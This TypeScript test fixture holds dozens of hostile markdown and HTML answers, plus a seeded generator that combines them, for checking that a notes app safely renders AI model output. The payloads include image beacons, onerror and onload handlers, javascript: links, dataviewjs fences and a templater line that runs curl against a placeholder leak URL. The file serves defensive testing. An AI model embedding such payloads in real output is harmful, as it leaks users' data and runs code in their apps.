// Hostile model answers: every trick we found or could think of for making an answer load a URL,
// run code or hide a citation, hand-written, plus combinations of them generated from a seed.
// `{URL}` is where a leak would go (a loopback server in the browser test, so a request that got
// through is counted) and `{JS}` is code that counts its own run; `[[Pain au levain]]` is a real
// source the answer may cite, so citation placeholders are exercised everywhere.

import { prng } from './vault';

export interface HostileAnswer {
  name: string;
  text: string;
}

const CITE = '[[Pain au levain]]';

/** One trick each. */
export const HANDWRITTEN: readonly HostileAnswer[] = [
  { name: 'plain image', text: 'Voici ![pixel]({URL}/img?leak=notes)' },
  { name: 'backtick, blank line, image', text: 'Un ` seul\n\n![a]({URL}/bt-blank?leak=1) et ' + CITE },
  { name: 'fence in list item, img after', text: '- item\n  ```\n  code\n- next <img src="{URL}/li-fence" onerror="{JS}">\n\n' + CITE },
  { name: 'unclosed fence in list item', text: '1. un\n   ```html\n   <img src={URL}/li-open onerror={JS}>\n2. deux ' + CITE },
  { name: 'reference-style image', text: 'Texte ![ref][r] fin ' + CITE + '\n\n[r]: {URL}/ref-img "t"' },
  { name: 'collapsed reference image', text: '![r][]\n\n[r]: {URL}/ref-collapsed' },
  { name: 'shortcut reference image', text: '![logo]\n\n[logo]: <{URL}/ref-shortcut>' },
  { name: 'autolink', text: 'Voir <{URL}/autolink> ' + CITE },
  { name: 'bare URL', text: 'Voir {URL}/bare et www.example.com ' + CITE },
  { name: 'email autolink', text: '<leak@example.com> et a@b.co' },
  { name: 'entity img', text: '&lt;img src={URL}/entity onerror={JS}&gt; ' + CITE },
  { name: 'numeric entity img', text: '&#60;img src={URL}/entity-num onerror={JS}&#62;' },
  { name: 'svg onload', text: '<svg onload="{JS}"><image href="{URL}/svg-image"/></svg> ' + CITE },
  { name: 'style url()', text: '<div style="background:url({URL}/style-url)">fond</div> ' + CITE },
  { name: 'style tag import', text: '<style>@import url({URL}/style-import);</style>' },
  { name: 'image in table', text: '| a | b |\n|---|---|\n| ![t]({URL}/table-img) | <img src={URL}/table-html onerror={JS}> |\n| ' + CITE + ' | `x` |' },
  { name: 'image in callout', text: '> [!note] Titre ![c]({URL}/callout-title)\n> ![c]({URL}/callout-body) ' + CITE },
  { name: 'foldable callout with html', text: '> [!warning]- Replié\n> <iframe src="{URL}/callout-frame"></iframe>' },
  { name: 'embed of URL', text: '![[{URL}/embed.png]] ' + CITE },
  { name: 'embed of note', text: '![[Pain au levain]] et ![[Pain au levain#Recette]]' },
  { name: 'nested brackets', text: '[[[nested]]]({URL}/nested) ![![x]({URL}/nested-inner)]({URL}/nested-outer) [a [b] c]({URL}/nested-3) ' + CITE },
  { name: 'image inside link', text: '[![img]({URL}/img-in-link)]({URL}/link-around)' },
  { name: 'angle-bracket destination', text: '![x](<{URL}/angle dest>)' },
  { name: 'script tag', text: 'Avant <script>{JS}</script> après ' + CITE },
  { name: 'img onerror', text: '<img src=x onerror="{JS}">' },
  { name: 'multi-line img', text: '<img\nsrc="{URL}/multiline"\nonerror="{JS}">' },
  { name: 'iframe', text: '<iframe src="{URL}/iframe"></iframe>' },
  { name: 'object and embed', text: '<object data="{URL}/object"></object><embed src="{URL}/embed-tag">' },
  { name: 'link stylesheet', text: '<link rel="stylesheet" href="{URL}/css">' },
  { name: 'meta refresh', text: '<meta http-equiv="refresh" content="0;url={URL}/meta">' },
  { name: 'video poster', text: '<video poster="{URL}/poster" src="{URL}/video"></video>' },
  { name: 'audio', text: '<audio src="{URL}/audio" autoplay></audio>' },
  { name: 'picture srcset', text: '<picture><source srcset="{URL}/srcset"><img src="{URL}/picture"></picture>' },
  { name: 'math mtext img', text: '<math><mtext><img src="{URL}/math" onerror="{JS}"></mtext></math>' },
  { name: 'details ontoggle', text: '<details open ontoggle="{JS}"><summary>s</summary></details>' },
  { name: 'form action', text: '<form action="{URL}/form"><button>go</button></form>' },
  { name: 'input autofocus onfocus', text: '<input autofocus onfocus="{JS}">' },
  { name: 'javascript link', text: '[clic](javascript:{JS}) ' + CITE },
  { name: 'data URL link', text: '[d](data:text/html,<script>{JS}</script>)' },
  { name: 'obsidian URI', text: '[ouvrir](obsidian://open?vault=x&file=y) obsidian://new?content=z' },
  { name: 'dataviewjs fence', text: '```dataviewjs\n{JS}\ndv.paragraph("x")\n```\n' + CITE },
  { name: 'dataview fence', text: '```dataview\nTABLE file.name FROM ""\n```' },
  { name: 'tilde dataviewjs fence', text: '~~~dataviewjs\n{JS}\n~~~' },
  { name: 'js-engine fence', text: '```js-engine\n{JS}\n```' },
  { name: 'inline dataview js', text: 'Total : `$= {JS}` ' + CITE },
  { name: 'inline dataview query', text: 'Nom : `= this.file.name` et `  $=  {JS}  `' },
  { name: 'templater', text: '<% tp.system.exec("curl {URL}/templater") %> et <%* {JS} %>' },
  { name: 'templater in code', text: '```js\n<%* {JS} %>\n```\n`<% tp.date.now() %>`' },
  { name: 'html comment', text: '<!-- <img src="{URL}/comment"> -->' },
  { name: 'obsidian comment', text: '%% <img src="{URL}/obs-comment"> %% ' + CITE },
  { name: 'math href', text: '$$\\href{javascript:{JS}}{x}$$ et $\\href{{URL}/tex}{y}$' },
  { name: 'indented code with html', text: 'Texte\n\n    <img src="{URL}/indented">\n\nfin ' + CITE },
  { name: 'citation in code span', text: 'Écrit `' + CITE + '` et ' + CITE },
  { name: 'citation in fence', text: '```\n' + CITE + '\n```\n' + CITE },
  { name: 'citation as link destination', text: '[voir](' + CITE + ') et ![img](' + CITE + ')' },
  { name: 'citation in table and heading', text: '## Titre ' + CITE + '\n\n| c |\n|---|\n| ' + CITE + ' |' },
  { name: 'citation after backtick trick', text: 'a ` b\n\n' + CITE + ' `c' },
  { name: 'double backtick span with image', text: '`` ` `` ![x]({URL}/double-bt) ``' },
  { name: 'emphasis around image', text: '***![x]({URL}/emph)*** _<img src={URL}/emph2>_' },
  { name: 'heading image', text: '# ![h]({URL}/heading)\nSetext <img src={URL}/setext>\n===' },
  { name: 'escaped bang', text: '\\![x]({URL}/escaped) \\<img src={URL}/esc2>' },
  { name: 'HTML block div', text: '<div>\n\n![x]({URL}/div-md)\n\n</div>' },
  { name: 'deep nesting', text: '> '.repeat(60) + '![x]({URL}/deep) ' + CITE },
  { name: 'deep list', text: Array.from({ length: 40 }, (_, i) => `${'  '.repeat(i)}- n${i}`).join('\n') + ' ![x]({URL}/deep-list)' },
  { name: 'footnote definition url', text: 'Note[^1]\n\n[^1]: ![x]({URL}/footnote)' },
  { name: 'wikilink with pipe image', text: '[[Pain au levain|![x]({URL}/alias)]]' },
  { name: 'highlight and tags', text: '==surligné== #tag ^block-id' },
  { name: 'unclosed fence at stream end', text: CITE + ' puis\n\n```dataviewjs\n{JS}\n<img src={URL}/unclosed' },
  { name: 'unclosed inline code at end', text: CITE + ' et `![x]({URL}/unclosed-span)' },
  { name: 'unclosed html at end', text: CITE + ' <img src="{URL}/unclosed-html" onerror="{JS}"' },
];

/** Pieces the generator combines, each a trick or ordinary text. */
const PIECES: readonly string[] = [
  ...HANDWRITTEN.map((a) => a.text),
  'Le levain se nourrit chaque jour.',
  'Première réaction : « pourquoi ? »',
  '**gras** et *italique* et ~~barré~~',
  '- un\n- deux',
  '1. un\n2. deux',
  '> citation',
  '`code`',
  '```\nbloc\n```',
  CITE,
  '[[Pain au levain#Recette]]',
  '[[Inconnue]]',
  '[1]',
];
const GLUE: readonly string[] = ['\n\n', '\n', ' ', ' `', '\n> ', '\n- ', '\n| ', '\n   ', '``', '\n```\n', '<', '!['];

export function generatedAnswers(count: number, seed = 20241226): HostileAnswer[] {
  const next = prng(seed);
  const pick = <T>(items: readonly T[]) => items[Math.floor(next() * items.length)]!;
  return Array.from({ length: count }, (_, i) => {
    const parts = Array.from({ length: 2 + Math.floor(next() * 4) }, () => pick(PIECES));
    let text = parts[0]!;
    for (const part of parts.slice(1)) text += pick(GLUE) + part;
    return { name: `generated ${i + 1}`, text };
  });
}

export function hostileAnswers(generated = 200, seed?: number): HostileAnswer[] {
  return [...HANDWRITTEN, ...generatedAnswers(generated, seed)];
}

/** `text` with its leak address and its counting code filled in. */
export function armed(text: string, url: string, js: string): string {
  return text.replaceAll('{URL}', url).replaceAll('{JS}', js);
}
